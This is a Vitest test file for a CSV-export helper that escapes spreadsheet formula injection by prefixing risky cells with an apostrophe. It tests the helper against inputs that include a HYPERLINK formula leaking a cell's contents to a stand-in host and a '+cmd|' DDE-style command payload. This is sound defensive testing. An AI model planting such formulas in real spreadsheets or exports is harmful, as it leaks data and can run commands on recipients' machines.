import { describe, expect, it } from 'vitest'
import { neutraliseFormula } from '../../server/csv/neutralise.js'

describe('neutraliseFormula', () => {
  it('escapes every formula start OWASP lists', () => {
    for (const s of ['=HYPERLINK("http://x.example/?leak="&A1,"klicka")', '+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(neutraliseFormula(s)).toBe(`'${s}`)
    }
  })
  it('leaves ordinary text alone', () => {
    for (const s of ['Ateljé Ugglan AB', '', '0880', 'a=b', ' =x']) expect(neutraliseFormula(s)).toBe(s)
  })
})
